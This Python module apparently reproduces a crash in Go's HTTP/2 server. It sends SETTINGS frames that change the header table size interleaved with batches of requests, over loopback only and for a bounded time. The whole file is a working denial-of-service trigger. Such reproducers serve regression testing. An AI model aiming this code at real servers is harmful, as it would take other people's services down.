"""A client that changes a setting of its HTTP/2 connection while it sends requests.

Go's server ended by that before Go 1.26.9 and 1.27.2 (CVE-2026-97032, https://go.dev/issue/81867):
it applied the size of the table of headers while it wrote headers with that table. This sends for
a bounded time, to the loopback interface only.
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import ssl
import threading
import time

import hpack
from hyperframe.frame import HeadersFrame, SettingsFrame, WindowUpdateFrame

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_REQUEST = [
    (":method", "GET"),
    (":scheme", "https"),
    (":authority", "aws-iam-authenticator"),
    (":path", "/healthz"),
]
# Streams that may be open at once. Go's default is 250.
_AT_ONCE = 100
_BATCH = 20
_SIZES = (4096, 64, 0, 128)
_REQUESTS_A_CONNECTION = 20_000
_CONNECTIONS = 2


def change_while_asking(address: str, port: int, seconds: float) -> int:
    """Send requests and settings for this many seconds; return how many requests were sent.

    Ends early if nobody listens any more.
    """
    assert ipaddress.ip_address(address).is_loopback
    deadline = time.monotonic() + seconds
    sent: list[int] = []

    def send() -> None:
        with contextlib.suppress(ConnectionRefusedError):
            while time.monotonic() < deadline:
                sent.append(_one_connection(address, port, deadline))

    threads = [threading.Thread(target=send, daemon=True) for _ in range(_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    return sum(sent)


def _one_connection(address: str, port: int, deadline: float) -> int:
    plain = socket.create_connection((address, port), timeout=5)
    try:
        connection = _context().wrap_socket(plain)
        assert connection.selected_alpn_protocol() == "h2"
    except OSError:
        plain.close()
        return 0
    number = 0
    with connection:
        answers = _Answers(connection)
        try:
            connection.sendall(_PREFACE + _settings(4096) + _window())
            while number < _REQUESTS_A_CONNECTION and time.monotonic() < deadline:
                batch = range(number, number + _BATCH)
                connection.sendall(b"".join(map(_changed_and_asked, batch)))
                number += _BATCH
                answers.wait(number - _AT_ONCE)
        except OSError:
            # The server has closed it, or is gone.
            pass
    return number


class _Answers:
    """Reads what a server answers, and counts the headers of answers in it."""

    def __init__(self, connection: ssl.SSLSocket) -> None:
        self._connection = connection
        self._count = threading.Condition()
        self._headers, self._ended = 0, False
        threading.Thread(target=self._read, daemon=True).start()

    def wait(self, number: int) -> None:
        """Wait until so many requests were answered."""
        with self._count:
            if not self._count.wait_for(lambda: self._headers >= number or self._ended, 5):
                raise TimeoutError
            if self._ended:
                raise ConnectionResetError

    def _read(self) -> None:
        left = b""
        with contextlib.suppress(OSError, ValueError):
            while data := self._connection.recv(1 << 16):
                left += data
                found = 0
                # A frame's header: 3 bytes of length, 1 of type, 1 of flags, 4 of stream.
                while len(left) >= 9 and len(left) >= (end := 9 + int.from_bytes(left[:3], "big")):
                    found += left[3] == HeadersFrame.type
                    left = left[end:]
                with self._count:
                    self._headers += found
                    self._count.notify()
        with self._count:
            self._ended = True
            self._count.notify()


def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def _settings(table_size: int) -> bytes:
    return SettingsFrame(0, {SettingsFrame.HEADER_TABLE_SIZE: table_size}).serialize()


def _window() -> bytes:
    return WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535).serialize()


def _changed_and_asked(number: int) -> bytes:
    return _settings(_SIZES[number % len(_SIZES)]) + _request(2 * number + 1)


def _request(stream: int) -> bytes:
    # Every request has the same headers, and an encoder of its own needs no table of the server's.
    return HeadersFrame(stream, _HEADERS, flags=["END_HEADERS", "END_STREAM"]).serialize()


_HEADERS = hpack.Encoder().encode([(name, value) for name, value in _REQUEST])
